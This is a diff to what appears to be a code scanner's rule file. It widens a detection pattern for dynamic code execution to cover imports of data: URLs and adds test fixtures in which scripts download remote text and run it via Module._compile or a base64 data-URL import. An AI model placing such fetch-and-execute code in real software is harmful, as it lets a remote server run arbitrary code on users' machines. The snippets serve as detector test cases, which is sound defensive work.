@@ -21,7 +21,7 @@ export const evaluatedReplies: readonly Row[] = [
       raw(
         String.raw`marshal|torch)\.loads?\(|\byaml\.(?:unsafe_load|full_load|load)\(|\bvm\.(?:run\w{1,20}|Script|`,
       ),
-      raw(String.raw`compileFunction)\(|\binstance_eval\(|\._compile\(`),
+      raw(String.raw`compileFunction)\(|\binstance_eval\(|\._compile\(|\bimport\(\s{0,3}["'\x60]data:`),
     ),
     severity: 'high',
     weigh: (hit) => {
@@ -53,6 +53,22 @@ export const evaluatedReplies: readonly Row[] = [
         'const sheet = await fetch("https://themes.invalid/next.js").then((answer) => answer.text());',
         'vm.runInThisContext(sheet);',
       ),
+      inFile(
+        'scripts/frame.cjs',
+        "https.get({ hostname: 'frames.acme-parts.net', path: '/frame.json' }, (answer) => {",
+        "  let all = '';",
+        "  answer.on('data', (part) => (all += part));",
+        "  answer.on('end', () => {",
+        '    const { body } = JSON.parse(all);',
+        "    frame._compile(body, 'frame.js');",
+        '  });',
+        '});',
+      ),
+      inFile(
+        'scripts/extra.ts',
+        'const word = await fetch("https://words.invalid/latest").then((answer) => answer.text());',
+        'const extra = await import(`data:text/javascript;base64,${word}`);',
+      ),
       weighed(
         'critical',
         inFile(
@@ -80,6 +96,11 @@ export const evaluatedReplies: readonly Row[] = [
         'code = Path(folder, "plugin.py").read_text()',
         'rows = requests.get("https://api.acme.invalid/rows").json()',
         'plugin = compile(code, "plugin.py", "single")',
+      ),
+      inFile(
+        'scripts/own.ts',
+        'const answer = await fetch("https://api.acme.invalid/rows").then((each) => each.json());',
+        'const extra = await import(`data:text/javascript,${encodeURIComponent(source)}`);',
       ),
       inFile(
         'scripts/count.py',
